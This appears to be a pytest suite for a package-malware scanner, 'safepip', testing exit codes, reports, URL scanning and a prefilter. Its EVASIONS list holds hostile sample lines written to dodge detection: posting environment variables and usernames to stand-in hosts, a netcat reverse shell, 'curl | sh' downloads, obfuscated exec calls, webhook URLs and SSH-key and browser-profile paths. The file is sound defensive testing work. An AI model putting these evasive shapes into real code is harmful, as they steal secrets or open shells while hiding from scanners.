"""`safepip scan` end to end: exit codes, formats, URLs over a loopback server, and the
prefilter's soundness (it never hides an import-time finding)."""

from __future__ import annotations

import base64
import functools
import gc
import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from safepip.checks.hooks.scanner import ArtifactScan
from safepip.cli import main
from tests.checks.hostile import CASES, make_sdist, setup_py


@pytest.fixture
def samples(tmp_path: Path) -> dict[str, Path]:
    (tmp_path / "bad").mkdir()
    (tmp_path / "good").mkdir()
    return {
        "bad": make_sdist(
            tmp_path / "bad",
            "demo",
            "1.0",
            {"setup.py": setup_py(CASES[1].hostile, tmp_path / "c")},
        ),
        "good": make_sdist(
            tmp_path / "good",
            "demo",
            "1.0",
            # no canary line: writing it (to an absolute path) is itself a finding
            {"setup.py": CASES[1].near_miss + "from setuptools import setup\nsetup()\n"},
        ),
    }


def test_exit_codes_follow_the_fail_level(
    samples: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["scan", str(samples["good"])]) == 0
    assert main(["scan", str(samples["bad"])]) == 1
    assert "hook/exec-obfuscated" in capsys.readouterr().out
    assert main(["scan", "--fail-on", "critical", str(samples["good"])]) == 0
    assert main(["scan", str(samples["good"].parent / "missing.tar.gz")]) == 2


def test_json_report(samples: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "r.json"
    assert main(["scan", "--format", "json", "-o", str(out), str(samples["bad"])]) == 1
    document = json.loads(out.read_text())
    assert document["schema"] == 1 and document["verdict"] == "block"
    finding = next(f for f in document["findings"] if f["rule"] == "hook/exec-obfuscated")
    assert finding["severity"] == "critical" and finding["location"]["path"] == "demo-1.0/setup.py"


def test_corrupt_archive_exits_3(tmp_path: Path) -> None:
    broken = tmp_path / "demo-1.0.tar.gz"
    broken.write_bytes(b"\x1f\x8b\x08\x00garbage")
    assert main(["scan", str(broken)]) == 3


@pytest.fixture
def file_server(samples: dict[str, Path]) -> Iterator[str]:
    handler = functools.partial(
        http.server.SimpleHTTPRequestHandler, directory=str(samples["bad"].parent)
    )
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_url_is_downloaded_and_scanned(
    file_server: str, samples: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    import hashlib

    digest = hashlib.sha256(samples["bad"].read_bytes()).hexdigest()
    assert main(["scan", f"{file_server}/demo-1.0.tar.gz#sha256={digest}"]) == 1
    assert "hook/exec-obfuscated" in capsys.readouterr().out
    assert main(["scan", f"{file_server}/demo-1.0.tar.gz#sha256={'0' * 64}"]) == 3


EVASIONS = (
    "import os, requests\ne = os.environ\nrequests.post('https://x.invalid', data=e)\n",
    "import builtins as b\nname = 'ex' + 'ec'\nrun = getattr(b, name)\n",
    "name = 'ev' + 'al'\nrun = getattr(__import__('builtins'), name)\n",
    "import subprocess\nsubprocess.call(['bash', '-i'])\n",
    "from os import system as run_it\nrun_it('wget -q https://x.invalid/a')\n",
    "import os\nos.popen('/bin/nc -e /bin/sh 10.0.0.1 4444')\n",
    "import socket, getpass\ns = socket.create_connection(('x.invalid', 80))\n"
    "s.sendall(getpass.getuser().encode())\n",
    "import base64\nrun = globals()['exec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
    "import base64\ndef f(x=exec(base64.b64decode('cHJpbnQoMSk='))):\n    pass\n",
    "import zlib\n@exec\n@zlib.decompress\nclass C:\n    pass\n",
    "import base64\nrun = exec\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
    "import base64, builtins\nbuiltins.exec(base64.b64decode('cHJpbnQoMSk='))\n",
    "import base64\n__import__('builtins').eval(base64.b64decode('MQ=='))\n",
    "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('cHJpbnQoMSk='))\n",
    "import base64\nrun = globals()['\\x65xec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
    "import base64\nrun = globals()['ex' 'ec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
    "import os\nfrom http import client\nc = client.HTTPSConnection('x.invalid')\n"
    "c.request('POST', '/', body=str(os.environ))\n",
    "HOOK = 'https://discord.com\\x2fapi\\x2fwebhooks/1/abcdef'\n",
    "HOOK = ('https://discord.com/api/web'\n        'hooks/1/abcdef')\n",
    "run = exec\nrun('tnirp'[::-2])\n",
    "exec(')1(tnirp'[::(-1)])\n",
    "import os\nos.system(blob.decode( 'base64'))\n",
    "exec(bytes ([112, 114, 105, 110, 116, 40, 49, 41, 32, 32, 32, 32, 32, 32, 32, 32]))\n",
    "import builtins\nname = 'ex' + 'ec'\nrun = getattr( builtins, name)\n",
    "import os, requests\nrequests.post('https://x.invalid', data=os.environ .copy())\n",
    "import os\nc = getattr(__import__('http'), 'client').HTTPSConnection('x.invalid')\n"
    "c.request('POST', '/', body=str(os.environ))\n",
    "import subprocess\nsubprocess.call('bash\\t-i')\n",
    "HOOK = 'https://pasteb\\u0131n.com/raw/x'\n",
    "HOOK = 'https://pasteb\u0131n.com/raw/x'\n",
    "KEY = '~/.\u017fsh/id_rsa'\n",
    "from builtins import (\n    exec as run,\n)\nimport zlib\nrun(zlib.decompress(blob))\n",
    "import subprocess\nsubprocess.call('\\tcurl -s https://x.invalid/a | \\tsh')\n",
    "KEY = '~/.s\\\nsh/config'\n",
    "KEY = '\\tid_ed25519'\n",
    "P = 'C:\\\\Users\\\\me\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data'\n",
    "import subprocess\nblob = b'\\x01'\ncode = bytes(b  # [\n    ^ 7 for b in blob)\n"
    "subprocess.call(code)\n",
    "import subprocess\ncmd = 'hs | x/diavni.x//:sptth Ls- lruc'[x  # [\n    :: -1]\n"
    "subprocess.call(cmd, shell=True)\n",
    "import subprocess\ncmd = 'hs | x/diavni.x//:sptth Ls- lruc'[len('[')::(-1)]\n"
    "subprocess.call(cmd, shell=True)\n",
)
"""Shapes written to slip past token checks (aliases, list-form commands, names by string,
runners passed by name, fullwidth identifiers, escaped or split literals, spacing, slices with
other steps, letters re.IGNORECASE takes for ASCII ones, an XOR and reversing slices spelt
across comments and brackets)."""


def test_prefilter_never_hides_an_import_time_finding(tmp_path: Path) -> None:
    """Every hostile, near-miss and evasive body as package code: same findings either way."""
    package = tmp_path / "demo-1.0"
    (package / "demo").mkdir(parents=True)
    for index, case in enumerate(CASES):
        (package / "demo" / f"h{index}.py").write_text(case.hostile)
        (package / "demo" / f"n{index}.py").write_text(case.near_miss)
    for index, body in enumerate(EVASIONS):
        (package / "demo" / f"e{index}.py").write_text(body)
    with_filter = ArtifactScan(str(tmp_path), "demo", "1.0", prefilter=True).run()
    without = ArtifactScan(str(tmp_path), "demo", "1.0", prefilter=False).run()
    assert sorted(map(repr, with_filter)) == sorted(map(repr, without))
    evasive = {f.location.path for f in with_filter if f.location and "/e" in f.location.path}
    assert len(evasive) == len(EVASIONS), sorted(evasive)
    assert {f.rule for f in with_filter} >= {
        "hook/exec-obfuscated",
        "hook/download-exec",
        "hook/webhook",
        "hook/sensitive-read",
    }


@pytest.mark.parametrize("enabled", [True, False])
def test_the_scan_leaves_the_garbage_collector_as_it_found_it(
    tmp_path: Path, enabled: bool
) -> None:
    """The scan pauses the collector while it parses (scanner._collector_paused) and gives
    back exactly the state it found, findings unchanged."""
    package = tmp_path / "demo-1.0"
    (package / "demo").mkdir(parents=True)
    (package / "setup.py").write_text(CASES[0].hostile)
    (package / "demo" / "m.py").write_text(CASES[0].hostile)
    before = gc.isenabled()
    try:
        (gc.enable if enabled else gc.disable)()
        findings = ArtifactScan(str(tmp_path), "demo", "1.0").run()
        assert gc.isenabled() is enabled
    finally:
        (gc.enable if before else gc.disable)()
    assert findings


def _utf7(text: str) -> str:
    """`text` in UTF-7's base64 form, which spells even ASCII letters as other letters."""
    return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"


def test_a_coding_cookie_does_not_hide_code_from_the_prefilter(tmp_path: Path) -> None:
    """`# coding: utf-7` makes `+AGIANgA0...-` read as `b64decode`: the prefilter judges the
    text the parser reads, not the bytes, so the import-time finding stays."""
    body = (f"# coding: utf-7\nimport base64, subprocess\nx = base64.{_utf7('b64decode')}"
            f"('aGk=')\nsubprocess.{_utf7('run')}(x)\n")
    package = tmp_path / "demo-1.0" / "demo"
    package.mkdir(parents=True)
    (package / "m.py").write_bytes(body.encode("ascii"))
    assert b"b64decode" not in body.encode("ascii")
    with_filter = ArtifactScan(str(tmp_path), "demo", "1.0", prefilter=True).run()
    without = ArtifactScan(str(tmp_path), "demo", "1.0", prefilter=False).run()
    assert sorted(map(repr, with_filter)) == sorted(map(repr, without))
    assert {f.rule for f in with_filter} == {"hook/exec-obfuscated"}
